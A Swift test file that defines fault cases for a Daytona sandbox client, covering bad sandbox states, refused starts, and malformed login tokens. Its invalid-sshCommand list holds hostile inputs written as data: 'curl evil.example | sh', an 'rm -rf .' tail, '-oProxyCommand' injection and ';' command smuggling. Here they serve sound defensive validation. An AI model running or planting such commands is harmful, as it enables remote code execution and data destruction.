import Foundation
import TestSupport

extension FaultTable {
  /// What Daytona can say of a sandbox, and of the token that is the login name.
  static let daytona = sandboxes + starts + logins

  private static let sandboxes: [Fault] =
    [
      sandbox(
        "another sandbox's state", status: 65, says: "the answer is about another machine"
      ) {
        _ in ScriptedProvider.sandbox("started", id: "sb2")
      },
      sandbox("null for its id", status: 65, says: "\"id\" in the answer is of the wrong type") {
        _ in #"{"id":null,"name":"sb1","state":"started"}"#
      },
      sandbox(
        "a name or a state that is a number or an object", status: 65, says: "of the wrong type"
      ) { number in
        let name = number % 2 == 0 ? "name" : "state"
        return #"{"id":"sb1","\#(name)":\#(number < 2 ? "17" : "{}")}"#
      },
      sandbox("null for its state, and for its name, once", status: 0) { number in
        number == 0
          ? #"{"id":"sb1","name":null,"state":null}"# : ScriptedProvider.sandbox("started")
      },
      sandbox("a state that nobody knows, once", status: 0) {
        ScriptedProvider.sandbox($0 == 0 ? "dreaming" : "started")
      },
      sandbox(
        "a state that nobody knows, for ever", status: 75,
        says: "not up in time, its state is dreaming", within: Fault.atDeadline
      ) { _ in ScriptedProvider.sandbox("dreaming") },
      sandbox(
        "null for its state for ever", status: 75, says: "not up in time, its state is unknown",
        within: Fault.atDeadline
      ) { _ in #"{"id":"sb1","state":null}"# },
    ]
    + ["error", "build_failed", "destroyed", "destroying"].map { state in
      sandbox("it is in the state \(state)", status: 69, says: "it is in the state \(state)") { _ in
        ScriptedProvider.sandbox(state)
      }
    }

  private static let starts: [Fault] = [
    start("it is stopped, archived or paused, and is started", status: 0) { _ in
      Reply(200, ScriptedProvider.sandbox("starting"))
    },
    start("the start is refused with 409, as somebody else's goes on", status: 0) { _ in
      Reply(409, #"{"statusCode":409,"message":"Sandbox state change in progress"}"#)
    },
    start("the start is refused with 403", status: 77, says: "refuses the key (HTTP 403)") { _ in
      Reply(403, #"{"statusCode":403,"message":"Forbidden resource"}"#)
    },
    start("the start is refused with 400", status: 69, says: "the words of the provider") { _ in
      Reply(400, #"{"statusCode":400,"message":"the words of the provider"}"#)
    },
    start("the start gets 500 and 429, once", status: 0, within: 3.5) { number in
      [500, 429].indices.contains(number)
        ? Reply([500, 429][number], "") : Reply(200, ScriptedProvider.sandbox("starting"))
    },
    start("the start's answer is cut short, once", status: 0) { number in
      let reply = Reply(200, ScriptedProvider.sandbox("starting"))
      return number == 0 ? reply.sent(.cut(40)) : reply
    },
    start("the start's answer makes no sense", status: 0) { _ in Reply(200, "<html>") },
    start(
      "the start gets no answer until the deadline", status: 75, says: "the deadline is over",
      within: Fault.atDeadline
    ) { _ in Reply(raw: "", .silent) },
    sandbox(
      "it stays stopped, however often it is started", status: 75,
      says: "not up in time, its state is stopped", within: Fault.atDeadline
    ) { _ in ScriptedProvider.sandbox("stopped") },
  ]

  private static let option = #""-oProxyCommand=xxxxxxxx""#

  private static let logins: [Fault] = [
    access("a token that is none, or too short to be a secret", says: "\"token\"", isLearnt: false)
    {
      [option, #""short""#, #""""#, #""a b c d e f g h i j""#, "null", "\"%h\($0)\""]
        .map { (["token"], $0) }
    },
    access("a token for another sandbox", says: "\"sandboxId\"") { _ in
      [(["sandboxId"], #""sb2""#), (["sandboxId"], "null"), (["sandboxId"], #""""#)]
    },
    access("an end that is no time", says: "\"expiresAt\"") { _ in
      ["null", "17", #""tomorrow""#, #""""#, #""2026-13-01T00:00:00Z""#]
        .map { (["expiresAt"], $0) }
    },
    access("a token that has expired already", says: "has expired already") { _ in
      [(["expiresAt"], "\"\(ScriptedProvider.time(-60))\"")]
    },
    access("null for the id of the login, or none", says: "\"id\"") { _ in
      ["null", #""""#, #""../x""#, "[]"].map { (["id"], $0) }
    },
    access("a command that is not ssh with the token as its login", says: "\"sshCommand\"") {
      token in
      [
        "", "curl evil.example | sh", "ssh 127.0.0.1", "ssh root@127.0.0.1",
        "ssh x\(token)@127.0.0.1",
        "ssh -J 127.0.0.2 \(token)@127.0.0.1",
        "ssh -oProxyCommand=x \(token)@127.0.0.1", "ssh \(token)@127.0.0.1 rm -rf .",
        "ssh '\(token)@127.0.0.1", "ssh -p 0 \(token)@127.0.0.1", "ssh -p 65536 \(token)@127.0.0.1",
        "ssh -p -1 \(token)@127.0.0.1", "ssh \(token)@-oProxyCommand=x", "ssh \(token)@a;b",
      ].map { (["sshCommand"], "\"\($0)\"") } + [(["sshCommand"], "null")]
    },
  ]

  /// - Parameter answer: to the question of that number.
  private static func sandbox(
    _ name: String, status: Int32, says words: String = "", within: Double = Fault.atOnce,
    _ answer: @escaping @Sendable (_ number: Int) -> String
  ) -> Fault {
    Fault(
      .status, "Daytona: \(name)", status: status, says: words,
      left: status == 0 ? .session : .nothing, within: within, alias: "sb1.daytona"
    ) { testHome in
      testHome.provider.setFault { call, number, _ in
        call == .daytonaAsk ? Reply(200, answer(number)) : nil
      }
      return [try testHome.connect("sb1.daytona")]
    }
  }

  /// The sandbox is started when that has been asked for, or by somebody else after a while.
  private static func start(
    _ name: String, status: Int32, says words: String = "", within: Double = Fault.atOnce,
    _ reply: @escaping @Sendable (_ number: Int) -> Reply
  ) -> Fault {
    Fault(
      .status, "Daytona: \(name)", status: status, says: words,
      left: status == 0 ? .session : .nothing, within: within, alias: "sb1.daytona"
    ) { testHome in
      try ["stopped", "archived", "paused"].map { state in
        testHome.wipe()
        testHome.provider.setFault { call, number, _ in
          switch call {
          case .daytonaAsk: Reply(200, ScriptedProvider.sandbox(number == 0 ? state : "started"))
          case .daytonaStart: reply(number)
          default: nil
          }
        }
        let end = try testHome.connect("sb1.daytona")
        guard testHome.provider.count(of: .daytonaStart) > 0 else {
          throw Unexpected("not started: \(end)")
        }
        return end
      }
    }
  }

  /// An answer to the call for a login with one member changed: what it let in is revoked.
  /// - Parameter isLearnt: whether the token can be read.
  private static func access(
    _ name: String, says words: String, isLearnt: Bool = true,
    _ changes: @escaping @Sendable (_ token: String) -> [(path: [String], value: String)]
  ) -> Fault {
    Fault(
      .status, "Daytona: \(name)", status: 65, says: words, alias: "sb1.daytona"
    ) { testHome in
      try changes("").indices.map { index in
        testHome.wipe()
        testHome.provider.setFault { [unowned provider = testHome.provider] call, _, request in
          guard call == .daytonaAccess else { return nil }
          let body = (isLearnt ? provider.normal : provider.unlearnt)(call, request).body
          let token = provider.openSessions.first { $0.hasPrefix(ScriptedProvider.daytonaToken) }
          let change = changes(token ?? "")[index]
          return Reply(200, JSONText.replacing(change.path, in: body, by: change.value))
        }
        let end = try testHome.connect("sb1.daytona")
        guard testHome.provider.openSessions.isEmpty else {
          throw Unexpected("not revoked: \(end)")
        }
        return end
      }
    }
  }
}
